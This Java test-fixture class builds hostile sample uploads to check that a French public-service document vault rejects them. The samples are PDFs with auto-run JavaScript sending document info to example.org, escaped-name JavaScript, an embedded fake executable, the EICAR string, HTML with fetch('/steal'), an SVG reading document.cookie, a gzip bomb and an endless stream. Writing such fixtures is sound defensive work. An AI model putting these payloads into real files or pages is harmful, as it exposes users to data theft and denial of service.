package fr.paris.teleservices.vault;

import java.awt.Color;
import java.awt.Graphics2D;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.zip.CRC32;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import javax.imageio.ImageIO;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.documentnavigation.destination.PDPageFitWidthDestination;

/** Test files made on the fly (no binaries in the repository). */
public final class TestFiles {

  public static final String EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";
  /** Written into EXIF so that tests can check it is gone. */
  public static final String SECRET_ADDRESS = "12 rue des Lilas 75020";

  private TestFiles() {}

  /** A one-page PDF with some text. */
  public static byte[] pdf(String text) {
    try (PDDocument document = new PDDocument()) {
      page(document, text);
      return save(document);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  /**
   * A valid PDF of about {@code size} bytes, written by hand: one page showing a grey image whose raw
   * samples are pseudo-random (incompressible, like a scan).
   */
  public static void writePdf(OutputStream out, long size, long seed) throws IOException {
    int width = 1024;
    long height = Math.max(1, (size - 1200) / width);
    Counting counting = new Counting(out);
    List<Long> offsets = new ArrayList<>();
    ascii(counting, "%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n");
    offsets.add(counting.count);
    ascii(counting, "1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n");
    offsets.add(counting.count);
    ascii(counting, "2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n");
    offsets.add(counting.count);
    ascii(counting, "3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842]"
        + " /Resources << /XObject << /Im1 4 0 R >> >> /Contents 5 0 R >>\nendobj\n");
    offsets.add(counting.count);
    long length = width * height;
    ascii(counting, "4 0 obj\n<< /Type /XObject /Subtype /Image /Width " + width + " /Height " + height
        + " /ColorSpace /DeviceGray /BitsPerComponent 8 /Length " + length + " >>\nstream\n");
    Random random = new Random(seed);
    byte[] buffer = new byte[64 * 1024];
    for (long left = length; left > 0; ) {
      random.nextBytes(buffer);
      int n = (int) Math.min(buffer.length, left);
      counting.write(buffer, 0, n);
      left -= n;
    }
    ascii(counting, "\nendstream\nendobj\n");
    offsets.add(counting.count);
    String content = "q 595 0 0 842 0 0 cm /Im1 Do Q";
    ascii(counting, "5 0 obj\n<< /Length " + content.length() + " >>\nstream\n" + content + "\nendstream\nendobj\n");
    long xref = counting.count;
    StringBuilder table = new StringBuilder("xref\n0 6\n0000000000 65535 f \n");
    for (long offset : offsets) {
      table.append(String.format("%010d 00000 n \n", offset));
    }
    table.append("trailer\n<< /Size 6 /Root 1 0 R >>\nstartxref\n").append(xref).append("\n%%EOF\n");
    ascii(counting, table.toString());
    counting.flush();
  }

  public static byte[] pdf(long size, long seed) {
    ByteArrayOutputStream out = new ByteArrayOutputStream((int) size + 2048);
    try {
      writePdf(out, size, seed);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return out.toByteArray();
  }

  /** A PDF whose catalog runs JavaScript when opened. */
  public static byte[] pdfWithOpenActionJavaScript() {
    try (PDDocument document = new PDDocument()) {
      page(document, "Avis d'imposition");
      document.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.launchURL('http://example.org/'+this.info)"));
      return save(document);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  /** A PDF that opens at page 1, fit width: an OpenAction that is only a destination. */
  public static byte[] pdfWithOpenDestination() {
    try (PDDocument document = new PDDocument()) {
      PDPage page = page(document, "Quittance");
      PDPageFitWidthDestination destination = new PDPageFitWidthDestination();
      destination.setPage(page);
      document.getDocumentCatalog().setOpenAction(destination);
      return save(document);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  /** A PDF carrying an embedded executable. */
  public static byte[] pdfWithEmbeddedFile() {
    try (PDDocument document = new PDDocument()) {
      page(document, "Attestation");
      PDEmbeddedFile file = new PDEmbeddedFile(document, new java.io.ByteArrayInputStream("MZ\u0090\u0000fake".getBytes(StandardCharsets.ISO_8859_1)));
      PDComplexFileSpecification spec = new PDComplexFileSpecification();
      spec.setFile("setup.exe");
      spec.setEmbeddedFile(file);
      PDEmbeddedFilesNameTreeNode tree = new PDEmbeddedFilesNameTreeNode();
      tree.setNames(java.util.Map.of("setup.exe", spec));
      PDDocumentNameDictionary names = new PDDocumentNameDictionary(document.getDocumentCatalog());
      names.setEmbeddedFiles(tree);
      document.getDocumentCatalog().setNames(names);
      return save(document);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  /** A hand-written PDF hiding JavaScript behind a name written with a #xx escape (/J#53 is /JS). */
  public static byte[] pdfWithEscapedJavaScriptName() {
    String[] objects = {
      "<< /Type /Catalog /Pages 2 0 R /Names << /J#61vaScript 4 0 R >> >>",
      "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
      "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
      "<< /Names [(a) << /S /Java#53cript /J#53 (app.alert(1)) >>] >>"
    };
    return handWritten(objects);
  }

  /** A PDF that needs a password to open. */
  public static byte[] encryptedPdf(String userPassword) {
    try (PDDocument document = new PDDocument()) {
      page(document, "RIB");
      StandardProtectionPolicy policy = new StandardProtectionPolicy("owner-secret", userPassword, new AccessPermission());
      policy.setEncryptionKeyLength(128);
      document.protect(policy);
      return save(document);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  /** A PDF with the EICAR test string in a page's text: a valid PDF an antivirus flags. */
  public static byte[] pdfWithEicar() {
    String content = "BT /F1 12 Tf 72 712 Td (" + EICAR.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)") + ") Tj ET";
    return handWritten(
        new String[] {
          "<< /Type /Catalog /Pages 2 0 R >>",
          "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
          "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
          "<< /Length " + content.length() + " >>\nstream\n" + content + "\nendstream"
        });
  }

  public static BufferedImage picture(int width, int height) {
    BufferedImage image = new BufferedImage(width, height, BufferedImage.TYPE_3BYTE_BGR);
    Graphics2D g = image.createGraphics();
    g.setColor(Color.WHITE);
    g.fillRect(0, 0, width, height);
    g.setColor(Color.BLUE);
    g.fillRect(0, 0, width / 4, height / 8);
    g.setColor(Color.BLACK);
    g.drawString("REPUBLIQUE FRANCAISE", 10, height / 2);
    g.dispose();
    return image;
  }

  public static byte[] jpeg(int width, int height) {
    return encode(picture(width, height), "jpeg");
  }

  public static byte[] png(int width, int height) {
    return encode(picture(width, height), "png");
  }

  public static byte[] encode(BufferedImage image, String format) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try {
      ImageIO.write(image, format, out);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return out.toByteArray();
  }

  /**
   * The JPEG with an EXIF segment as phones write it: an orientation, a description holding {@link
   * #SECRET_ADDRESS} and a GPS position (48°51'N).
   */
  public static byte[] withExif(byte[] jpeg, int orientation) {
    ByteBuffer tiff = ByteBuffer.allocate(256).order(ByteOrder.LITTLE_ENDIAN);
    tiff.put((byte) 'I').put((byte) 'I').putShort((short) 42).putInt(8);
    byte[] description = (SECRET_ADDRESS + "\0").getBytes(StandardCharsets.US_ASCII);
    int ifd0Entries = 3;
    int ifd0End = 8 + 2 + ifd0Entries * 12 + 4;
    int descriptionOffset = ifd0End;
    int gpsIfd = descriptionOffset + description.length + (description.length % 2);
    tiff.putShort((short) ifd0Entries);
    entry(tiff, 0x010E, 2, description.length, descriptionOffset); // ImageDescription
    tiff.putShort((short) 0x0112).putShort((short) 3).putInt(1).putShort((short) orientation).putShort((short) 0);
    entry(tiff, 0x8825, 4, 1, gpsIfd); // GPS IFD pointer
    tiff.putInt(0);
    tiff.position(descriptionOffset);
    tiff.put(description);
    tiff.position(gpsIfd);
    int rationals = gpsIfd + 2 + 2 * 12 + 4;
    tiff.putShort((short) 2);
    tiff.putShort((short) 0x0001).putShort((short) 2).putInt(2).put((byte) 'N').put((byte) 0).putShort((short) 0);
    entry(tiff, 0x0002, 5, 3, rationals);
    tiff.putInt(0);
    tiff.position(rationals);
    tiff.putInt(48).putInt(1).putInt(51).putInt(1).putInt(2400).putInt(100);
    int tiffLength = tiff.position();
    byte[] exif = new byte[6 + tiffLength];
    System.arraycopy("Exif\0\0".getBytes(StandardCharsets.US_ASCII), 0, exif, 0, 6);
    System.arraycopy(tiff.array(), 0, exif, 6, tiffLength);
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    out.write(0xFF);
    out.write(0xD8);
    out.write(0xFF);
    out.write(0xE1);
    out.write((exif.length + 2) >> 8);
    out.write((exif.length + 2) & 0xFF);
    out.writeBytes(exif);
    out.write(jpeg, 2, jpeg.length - 2);
    return out.toByteArray();
  }

  private static void entry(ByteBuffer b, int tag, int type, int count, int value) {
    b.putShort((short) tag).putShort((short) type).putInt(count).putInt(value);
  }

  /** A PNG that announces width × height pixels but carries almost no data. */
  public static byte[] pngHeaderOnly(int width, int height) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    out.writeBytes(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n'});
    ByteBuffer ihdr = ByteBuffer.allocate(13).putInt(width).putInt(height).put((byte) 8).put((byte) 2).put((byte) 0).put((byte) 0).put((byte) 0);
    chunk(out, "IHDR", ihdr.array());
    chunk(out, "IDAT", new byte[] {0x78, (byte) 0x9C, 0x03, 0x00, 0x00, 0x00, 0x00, 0x01});
    chunk(out, "IEND", new byte[0]);
    return out.toByteArray();
  }

  private static void chunk(ByteArrayOutputStream out, String type, byte[] data) {
    byte[] typeBytes = type.getBytes(StandardCharsets.US_ASCII);
    out.writeBytes(ByteBuffer.allocate(4).putInt(data.length).array());
    out.writeBytes(typeBytes);
    out.writeBytes(data);
    CRC32 crc = new CRC32();
    crc.update(typeBytes);
    crc.update(data);
    out.writeBytes(ByteBuffer.allocate(4).putInt((int) crc.getValue()).array());
  }

  public static byte[] zip() {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
      zip.putNextEntry(new ZipEntry("facture.pdf"));
      zip.write(pdf("inside a zip"));
      zip.closeEntry();
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return bytes.toByteArray();
  }

  public static byte[] html() {
    return "<!DOCTYPE html><html><head><title>Avis</title></head><body><script>fetch('/steal')</script></body></html>"
        .getBytes(StandardCharsets.UTF_8);
  }

  public static byte[] svg() {
    return ("<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\">"
            + "<script>alert(document.cookie)</script><rect width=\"10\" height=\"10\"/></svg>")
        .getBytes(StandardCharsets.UTF_8);
  }

  /** WebP's RIFF header: a real image format we do not accept. */
  public static byte[] webpHeader() {
    ByteBuffer b = ByteBuffer.allocate(64).order(ByteOrder.LITTLE_ENDIAN);
    b.put("RIFF".getBytes(StandardCharsets.US_ASCII)).putInt(56).put("WEBPVP8 ".getBytes(StandardCharsets.US_ASCII)).putInt(44);
    return b.array();
  }

  /** The start of an iPhone photo (HEIF/HEIC): a real image format we do not accept. */
  public static byte[] heicHeader() {
    byte[] heic = new byte[64];
    byte[] box = "\0\0\0\u0018ftypheic\0\0\0\0mif1heic".getBytes(StandardCharsets.ISO_8859_1);
    System.arraycopy(box, 0, heic, 0, box.length);
    return heic;
  }

  /** A gzip bomb: 64 MiB of zeros in about 64 KB. The vault must refuse it without inflating it. */
  public static byte[] gzipBomb() {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (java.util.zip.GZIPOutputStream gzip = new java.util.zip.GZIPOutputStream(bytes)) {
      byte[] zeros = new byte[1024 * 1024];
      for (int i = 0; i < 64; i++) {
        gzip.write(zeros);
      }
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return bytes.toByteArray();
  }

  /** An endless stream that counts what it gave. */
  public static final class Endless extends InputStream {
    public long served;

    @Override
    public int read() {
      served++;
      return 'A';
    }

    @Override
    public int read(byte[] b, int off, int len) {
      java.util.Arrays.fill(b, off, off + len, (byte) 'A');
      served += len;
      return len;
    }
  }

  /** A stream that starts like a PDF and never ends. */
  public static InputStream endlessPdf(Endless tail) {
    return new java.io.SequenceInputStream(new java.io.ByteArrayInputStream("%PDF-1.7\n%\u00e2\u00e3\n".getBytes(StandardCharsets.ISO_8859_1)), tail);
  }

  private static PDPage page(PDDocument document, String text) throws IOException {
    PDPage page = new PDPage();
    document.addPage(page);
    try (PDPageContentStream content = new PDPageContentStream(document, page)) {
      content.beginText();
      content.setFont(new PDType1Font(Standard14Fonts.FontName.HELVETICA), 12);
      content.newLineAtOffset(72, 712);
      content.showText(text);
      content.endText();
    }
    return page;
  }

  private static byte[] save(PDDocument document) throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    document.save(out);
    return out.toByteArray();
  }

  private static byte[] handWritten(String[] objects) {
    try {
      ByteArrayOutputStream bytes = new ByteArrayOutputStream();
      Counting out = new Counting(bytes);
      ascii(out, "%PDF-1.7\n");
      List<Long> offsets = new ArrayList<>();
      for (int i = 0; i < objects.length; i++) {
        offsets.add(out.count);
        ascii(out, (i + 1) + " 0 obj\n" + objects[i] + "\nendobj\n");
      }
      long xref = out.count;
      StringBuilder table = new StringBuilder("xref\n0 " + (objects.length + 1) + "\n0000000000 65535 f \n");
      for (long offset : offsets) {
        table.append(String.format("%010d 00000 n \n", offset));
      }
      table.append("trailer\n<< /Size ").append(objects.length + 1).append(" /Root 1 0 R >>\nstartxref\n").append(xref).append("\n%%EOF\n");
      ascii(out, table.toString());
      return bytes.toByteArray();
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  private static void ascii(OutputStream out, String s) throws IOException {
    out.write(s.getBytes(StandardCharsets.ISO_8859_1));
  }

  private static final class Counting extends java.io.FilterOutputStream {
    long count;

    Counting(OutputStream out) {
      super(out);
    }

    @Override
    public void write(int b) throws IOException {
      out.write(b);
      count++;
    }

    @Override
    public void write(byte[] b, int off, int len) throws IOException {
      out.write(b, off, len);
      count += len;
    }
  }
}
